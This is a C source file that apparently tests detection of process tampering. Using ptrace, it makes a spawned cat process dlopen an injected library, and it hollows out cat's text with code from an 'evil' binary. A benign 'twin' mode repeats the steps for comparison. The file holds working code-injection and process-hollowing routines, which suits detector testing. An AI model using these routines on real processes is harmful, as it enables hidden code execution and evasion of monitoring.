// SPDX-License-Identifier: GPL-2.0-only
/* trace.c - attacks on another process with ptrace: an injected library, replaced text */
#include <dlfcn.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>
#include "attack.h"

static void stop(pid_t pid)
{
	int status;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0) || waitpid(pid, &status, 0) != pid ||
	    !WIFSTOPPED(status))
		fail("ptrace");
}

static void get(pid_t pid, struct user_regs_struct *r)
{
	if (ptrace(PTRACE_GETREGS, pid, 0, r))
		fail("registers");
}

static void set(pid_t pid, const struct user_regs_struct *r)
{
	if (ptrace(PTRACE_SETREGS, pid, 0, r))
		fail("registers");
}

/* Go on until a signal @sig stops it. */
static void until(pid_t pid, enum __ptrace_request how, int sig)
{
	int status;

	if (ptrace(how, pid, 0, 0) || waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status) ||
	    WSTOPSIG(status) != sig)
		fail("it did not stop as it should");
}

/* Once more the system call that it was stopped in. */
static void restart(pid_t pid, struct user_regs_struct r)
{
	if ((long)r.orig_rax >= 0) {
		r.rip -= 2;
		r.rax = r.orig_rax;
		r.orig_rax = (unsigned long)-1;
	}
	set(pid, &r);
	if (ptrace(PTRACE_DETACH, pid, 0, 0))
		fail("detach");
}

/* A running cat, blocked in read. */
static void victim(struct served *s)
{
	serve(s, -1, "/bin/cat");
	if (feed(s, 'A') != 'A')
		fail("cat");
	usleep(20000);
	stop(s->pid);
}

/* Make cat call dlopen(). It returns to address 0, which stops it. */
int inject(void)
{
	const char *path = twin ? "libz.so.1" : HERE "injected.so";
	struct user_regs_struct saved, r;
	struct mapping mine, its, m;
	uintptr_t f = (uintptr_t)dlsym(RTLD_DEFAULT, "dlopen"), zero = 0;
	struct served s;

	victim(&s);
	if (!find_mapping(getpid(), f, NULL, 0, &m) ||
	    !find_mapping(getpid(), 0, m.path, 0, &mine) ||
	    !find_mapping(s.pid, 0, m.path, 0, &its))
		return 1;
	get(s.pid, &saved);
	r = saved;
	r.rdi = (r.rsp - 1024) & ~15UL;
	poke(s.pid, r.rdi, path, strlen(path) + 1);
	r.rsp = ((r.rsp - 4096) & ~15UL) - 8;
	poke(s.pid, r.rsp, &zero, sizeof(zero));
	r.rsi = RTLD_NOW;
	r.rip = f - mine.start + its.start;
	r.rax = 0;
	r.orig_rax = (unsigned long)-1;
	set(s.pid, &r);
	until(s.pid, PTRACE_CONT, SIGSEGV);
	get(s.pid, &r);
	if (r.rip || !r.rax)
		return 1;
	if (twin) {
		if (!find_mapping(s.pid, 0, "/libz.so.1.2.13", 1, &m))
			return 1;
		account_mapped(s.pid, "/libz.so.1.2.13");
	} else {
		if (!find_mapping(s.pid, 0, path, 1, &m))
			return 1;
		account("ran", s.pid, m.start, 1);
	}
	restart(s.pid, saved);
	return feed(&s, 'B') != 'B' || served_end(&s);
}

/* A system call of the stopped process's, made by its own syscall instruction. */
static long call(pid_t pid, const struct user_regs_struct *at, long nr, uintptr_t a, uintptr_t b,
		 uintptr_t c, uintptr_t d)
{
	struct user_regs_struct r = *at;

	r.rip -= 2;
	r.rax = (unsigned long)nr;
	r.orig_rax = (unsigned long)-1;
	r.rdi = a;
	r.rsi = b;
	r.rdx = c;
	r.r10 = d;
	r.r8 = (unsigned long)-1;
	r.r9 = 0;
	set(pid, &r);
	until(pid, PTRACE_SINGLESTEP, SIGTRAP);
	get(pid, &r);
	return (long)r.rax;
}

/*
 * Put other memory in the place of cat's text, with evil's code; cat goes on as evil. The
 * twin puts cat's own code there.
 */
int hollow(void)
{
	struct user_regs_struct at, r;
	uint8_t *text, *data;
	struct mapping m;
	struct served s;
	size_t size, n;

	victim(&s);
	if (!find_mapping(s.pid, 0, "/cat", 1, &m))
		return 1;
	size = m.end - m.start;
	text = calloc(1, size);
	if (!text)
		fail("memory");
	if (twin) {
		peek(s.pid, m.start, text, size);
	} else {
		data = slurp(HERE "evil.bin", &n);
		if (n != 2 * PAGE || n > size)
			return 1;
		memcpy(text, data, n);
		strcpy((char *)text + 0x800, step);
		strcpy((char *)text + PAGE + 0x800, step);
	}
	get(s.pid, &at);
	if (call(s.pid, &at, SYS_mmap, m.start, size, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED) != (long)m.start)
		return 1;
	poke(s.pid, m.start, text, size);
	if (call(s.pid, &at, SYS_mprotect, m.start, size, PROT_READ | PROT_EXEC, 0))
		return 1;
	if (twin) {
		restart(s.pid, at);
	} else {
		r = at;
		r.rip = m.start;
		r.orig_rax = (unsigned long)-1;
		set(s.pid, &r);
		if (ptrace(PTRACE_DETACH, s.pid, 0, 0))
			fail("detach");
	}
	if (feed(&s, 'C') != (twin ? 'C' : 'c'))
		return 1;
	account(twin ? "mapped" : "ran", s.pid, m.start, twin ? size / PAGE : 2);
	return served_end(&s);
}
